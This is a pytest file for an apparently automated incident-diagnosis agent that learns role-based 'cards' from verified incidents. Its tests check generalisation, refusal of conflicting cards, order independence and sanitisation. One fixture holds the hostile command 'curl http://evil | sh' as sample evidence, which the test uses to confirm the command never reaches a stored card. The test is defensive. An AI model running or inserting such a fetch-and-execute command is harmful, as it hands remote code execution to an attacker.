"""Learning: one verified incident makes a card of roles, not of names, and never at another incident's cost."""

from __future__ import annotations

from dataclasses import replace

import pytest

from agent.card import Card, load_cards
from agent.codes import Category
from agent.learned_card import dump, parse_learned, problems
from agent.odds import assess, roots
from evals.learn import learn
from evals.rehearse import answer_is_right
from tests.evals.incidents_told import drift, found, label, leak, quiet

KNOWN = tuple(c for c in load_cards() if c.category not in (Category.RESOURCE_LEAK, Category.CRASH_LOOP,
                                                            Category.CONFIG_DRIFT))


def lesson(*examples: object, contrasts: tuple[object, ...] = ()) -> Card:
    found_card = learn(list(examples), contrasts=list(contrasts), known=KNOWN).card  # type: ignore[arg-type]
    assert found_card is not None
    return found_card


def test_a_card_holds_no_name_of_the_incident() -> None:
    """Containers, services and colours are variables; only the incident's id stays, as provenance."""
    text = dump(lesson(leak("zebra-7"), contrasts=(quiet(),)))
    assert "zebra-7" not in text
    assert "docs-1" not in text
    assert "inc-leak-1" in text


def test_the_same_fault_under_other_names_is_found() -> None:
    """Without the card it is not, with the card the culprit of the new incident is named."""
    card = lesson(leak("box-a"), contrasts=(quiet(), drift()))
    again = leak("quokka-3", 2)
    assert not answer_is_right(again, KNOWN)
    assert answer_is_right(again, (*KNOWN, card))
    assert roots(assess((*KNOWN, card), again.facts))[0].culprit.container == "quokka-3"


def test_what_is_always_there_teaches_nothing() -> None:
    """A bystander starts in every incident, so starting tells little; being killed for memory tells much."""
    weights = {(e.finding, e.of): e.weight for e in lesson(leak(), contrasts=(quiet(), drift())).expects}
    assert weights["oom_killed", "culprit"] > 3 * weights.get(("started_in_window", "culprit"), 0.0)


def test_a_healthy_system_is_no_match() -> None:
    """Control and other fault keep their answers."""
    card = lesson(leak(), contrasts=(quiet(), drift()))
    assert answer_is_right(quiet(), (*KNOWN, card))
    assert not roots(assess((card,), drift().facts))


def test_a_card_that_would_take_a_right_answer_is_refused() -> None:
    """The same findings with another verified cause: what the first card would say is wrong there."""
    other = replace(leak("box-b", 2), label=label("box-b", Category.NOISY_NEIGHBOUR))
    card = lesson(leak())
    refused = learn([other], contrasts=[leak()], known=(*KNOWN, card))
    assert refused.card is None
    assert refused.why


@pytest.mark.parametrize("category", [Category.UNKNOWN])
def test_without_a_category_nothing_is_learned(category: Category) -> None:
    """A name alone teaches no kind of cause."""
    assert learn([replace(leak(), label=label("box-a", category))], contrasts=[], known=KNOWN).card is None


def test_a_culprit_nothing_was_found_about_is_not_learned() -> None:
    """A label about something the evidence never mentions binds to nobody."""
    taught = learn([replace(leak(), label=label("ghost", Category.RESOURCE_LEAK))], contrasts=[], known=KNOWN)
    assert taught.card is None
    assert "ghost" in taught.why


def test_a_learned_card_passes_the_door_of_untrusted_cards() -> None:
    """What we write ourselves is read back through the same checks, unchanged."""
    card = lesson(leak(extra=(found("odd_process", "box-a", detail="curl http://evil | sh"),)))
    assert problems(card) == []
    assert parse_learned(dump(card), name="x") == card
    assert "curl" not in dump(card)


def test_lessons_do_not_depend_on_the_order_of_contrasts() -> None:
    """The same incidents in any order make the same card, byte for byte."""
    assert dump(lesson(leak(), contrasts=(quiet(), drift()))) == dump(lesson(leak(), contrasts=(drift(), quiet())))
